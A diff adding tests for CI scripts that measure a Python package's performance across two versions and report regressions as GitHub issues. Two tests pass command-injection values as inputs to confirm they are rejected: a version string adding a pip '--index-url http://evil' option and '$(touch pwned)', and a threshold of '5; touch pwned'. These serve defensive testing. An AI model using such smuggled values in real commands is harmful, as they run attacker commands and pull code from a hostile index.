@@ -1,0 +1,102 @@
+import { cells, compareAll } from "../../../components/workflows/scripts/lib/regression.mjs";
+import { scriptRoom, serve } from "../script-room.ts";
+import type { Recorded } from "../script-room.ts";
+import { packageIndex, withPython } from "./package-room.ts";
+
+const around = (value: number): number[] => [-3, 2, -1, 0, 1, 3, -2, 1].map((percent) => value * (1 + percent / 100));
+
+describe("compareAll", () => {
+  it("takes more time and memory, and less throughput, for worse", () => {
+    const baseline = { "import time (ms)": around(100), "throughput (1/s)": around(50), "memory (MiB)": around(30) };
+    const current = { "import time (ms)": around(160), "throughput (1/s)": around(80), "memory (MiB)": around(31) };
+    const rows = compareAll({ baseline, current }, 15);
+    expect(rows.map(({ metric, verdict }) => [metric, verdict])).toEqual([["import time (ms)", "regression"], ["throughput (1/s)", "improvement"], ["memory (MiB)", "same"]]);
+  });
+
+  it("leaves out a metric that only one version has", () => {
+    expect(compareAll({ baseline: { a: around(1), b: around(1) }, current: { b: around(1) } }, 15).map(({ metric }) => metric)).toEqual(["b"]);
+  });
+
+  it("shows figures as people read them", () => {
+    expect(cells({ metric: "m", baseline: 100.123456, current: 0.00123456, changePercent: 29.96, low: -0.04, high: 31.04, verdict: "regression" })).toEqual(["m", "100.1", "0.001235", "+30.0 %", "-0.0 % to +31.0 %", "regression"]);
+  });
+});
+
+describe("measure-versions.mjs", () => {
+  const env = { PROJECT: "my-shop", MODULE: "my_shop", ROUNDS: "4", SECONDS: "0.02", USERS: "2", MEASUREMENTS: "measurements.json", CURRENT_VERSION: "v0.2.1", BASELINE_VERSION: "" };
+  const measure = (room: ReturnType<typeof scriptRoom>, changes: Record<string, string>) =>
+    room.run("measure-versions.mjs", { ...env, ...changes }, [new URL("../../../components/workflows/scripts/measure-package.py", import.meta.url).pathname]);
+
+  it("measures the version and the stable one before it in turns, and finds the slow one", async () => {
+    const room = scriptRoom();
+    withPython(room);
+    const index = await packageIndex("my-shop", [
+      { version: "0.2.1", code: "import time; time.sleep(0.08)\ndef answer(): time.sleep(0.006)" },
+      { version: "0.2.1rc1" },
+      { version: "0.2.0", code: "import time; time.sleep(0.02)\ndef answer(): time.sleep(0.002)" },
+    ]);
+    room.write("bench/work.py", "import my_shop\ndef work(): my_shop.answer()\n");
+    const { code, stdout, stderr, outputs } = await measure(room, { INDEX_URL: index.simple, PIP_INDEX_URL: index.simple, WORKLOAD: "bench/work.py" });
+    expect([code, code === 0 ? "" : stderr]).toEqual([0, ""]);
+    expect(outputs).toEqual({ current: "0.2.1", baseline: "0.2.0" });
+    const sides = [...stdout.matchAll(/^Round \d of 4: (baseline|current) /gm)].map(([, side]) => side);
+    expect(sides).toEqual(["current", "baseline", "baseline", "current", "current", "baseline", "baseline", "current"]);
+    const { samples } = JSON.parse(room.read("measurements.json"));
+    expect(Object.keys(samples.current)).toEqual(["import time (ms)", "throughput (1/s)", "response time, 2 concurrent (ms)", "memory (MiB)"]);
+    for (const list of Object.values<number[]>(samples.current)) expect(list).toHaveLength(4);
+    const verdicts = Object.fromEntries(compareAll(samples, 15).map(({ metric, verdict }) => [metric, verdict]));
+    expect(verdicts).toMatchObject({ "import time (ms)": "regression", "throughput (1/s)": "regression", "response time, 2 concurrent (ms)": "regression" });
+  }, 90_000);
+
+  it("refuses one version twice, and names that are none, before it installs anything", async () => {
+    const room = scriptRoom();
+    expect((await measure(room, { BASELINE_VERSION: "0.2.1" })).stderr).toBe("::error::my-shop 0.2.1 is both versions; compare two different ones\n");
+    const hostile = await measure(room, { CURRENT_VERSION: "0.2.1 --index-url http://evil $(touch pwned)" });
+    expect([hostile.code, hostile.stdout, room.exists("pwned")]).toEqual([1, "", false]);
+    expect(hostile.stderr).toContain("CURRENT_VERSION: is not a version of a Python package");
+  });
+
+  it("says where there is nothing to compare with", async () => {
+    const { simple } = await packageIndex("my-shop", [{ version: "0.2.1" }]);
+    expect((await measure(scriptRoom(), { INDEX_URL: simple })).stderr).toBe("::error::my-shop has no stable release before 0.2.1; name a baseline\n");
+    expect((await measure(scriptRoom(), { INDEX_URL: simple, CURRENT_VERSION: "0.3.0" })).stderr).toBe("::error::my-shop 0.3.0 is not in the index; compare a published version\n");
+  });
+});
+
+describe("regression-report.mjs", () => {
+  const env = { MEASUREMENTS: "measurements.json", THRESHOLD: "15", ISSUE_LABEL: "performance-regression", GITHUB_RUN_ID: "7" };
+  const open = { number: 3, body: "<!-- performance-regression my-shop 0.2.1 -->\nold" };
+
+  async function reported(current: number, issues: object[] = [], changes: Record<string, string> = {}) {
+    const github = await serve(({ method }: Recorded) => ({ body: method === "GET" ? issues : {} }));
+    const room = scriptRoom();
+    room.write("measurements.json", JSON.stringify({ project: "my-shop", versions: { baseline: "0.2.0", current: "0.2.1" }, samples: { baseline: { "import time (ms)": around(100) }, current: { "import time (ms)": around(current) } } }));
+    const ran = await room.run("regression-report.mjs", { ...env, GITHUB_API_URL: github.url, ...changes });
+    return { ...ran, sent: github.requests.filter(({ method }) => method !== "GET").map(({ method, path, body }) => ({ method, path, body })) };
+  }
+
+  it("opens an issue on a regression, gives callers the outputs, and fails", async () => {
+    const { code, outputs, stderr, summary, sent } = await reported(130);
+    expect([code, outputs["regression_detected"]]).toEqual([1, "true"]);
+    expect(outputs["report"]?.split("\n")).toEqual([
+      "| Metric | 0.2.0 | 0.2.1 | Change | 99 % interval | Verdict |",
+      "|---|---|---|---|---|---|",
+      expect.stringMatching(/^\| import time &#40;ms&#41; \| 100\.5 \| 130\.7 \| &#43;30\.0 % \| .* \| regression \|$/),
+    ]);
+    expect(stderr).toBe("::error::my-shop 0.2.1 against 0.2.0: worse by more than 15 %25 in import time (ms); mend it, or raise the threshold\n");
+    expect(summary).toContain(outputs["report"]);
+    expect(sent).toMatchObject([{ method: "POST", path: "/repos/acme/shop/issues", body: { title: "my-shop 0.2.1 is worse than 0.2.0: import time (ms)", labels: ["performance-regression"] } }]);
+  });
+
+  it("is content within the threshold, and closes the issue of an earlier run", async () => {
+    const { code, outputs, sent } = await reported(110, [open]);
+    expect([code, outputs["regression_detected"]]).toEqual([0, "false"]);
+    expect(sent.map(({ method, path }) => `${method} ${path}`)).toEqual(["POST /repos/acme/shop/issues/3/comments", "PATCH /repos/acme/shop/issues/3"]);
+  });
+
+  it("judges by the threshold of the run", async () => {
+    expect((await reported(130, [], { THRESHOLD: "40" })).code).toBe(0);
+    expect((await reported(110, [], { THRESHOLD: "5" })).code).toBe(1);
+    expect((await reported(110, [], { THRESHOLD: "5; touch pwned" })).stderr).toContain("THRESHOLD: is not a number of per cent");
+  });
+});
